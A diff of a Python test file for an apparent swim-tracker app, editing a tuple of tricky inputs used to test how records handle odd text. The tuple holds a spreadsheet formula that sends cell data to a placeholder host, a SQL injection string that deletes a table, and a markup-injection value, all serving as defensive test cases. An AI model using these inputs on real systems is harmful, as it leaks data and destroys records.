@@ -19,7 +19,7 @@ from tracker.records.text import checked_line, checked_note
 from tracker.records.work import Work
 
 BITING = (
-    '=HYPERLINK("http://x.test/?"&A2,"Ana")',
+    '=IMAGE("http://buoy.test/?"&A2,"tide")',
     "+1 (555) 0100",
     "-3 s",
     "@coach",
@@ -35,12 +35,12 @@ BITING = (
     "[@click=app.quit]Ana",
     "$$",
     "Zoë",
-    "李小龍",
-    "محمد",
+    "凌汐舟",
+    "سامر",
     "🏊‍♀️ Ana",
     "a,b",
     'say "x"',
-    "Robert'); DROP TABLE swimmer;--",
+    "Tansy'); DELETE FROM swim;--",
     "%",
     "\\",
     "1:02.3",
